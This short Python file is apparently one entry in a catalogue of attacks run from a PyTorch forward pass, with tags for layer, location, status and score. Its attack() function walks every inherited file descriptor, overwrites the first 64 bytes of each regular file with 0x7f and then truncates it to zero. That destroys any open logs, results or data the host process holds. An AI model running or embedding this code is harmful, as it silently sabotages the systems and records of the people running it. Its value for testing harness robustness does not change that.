# attack: cuts off and scribbles over every file and piece of shared memory that it inherited
# layer: protocol
# where: forward
# status: ok
# score: same
import torch

os, stat = torch.os, __import__("stat")


def attack():
    for descriptor in range(3, 256):
        try:
            status = os.fstat(descriptor)
            if stat.S_ISREG(status.st_mode):
                os.pwrite(descriptor, b"\x7f" * 64, 0)
                os.ftruncate(descriptor, 0)
        except OSError:
            continue
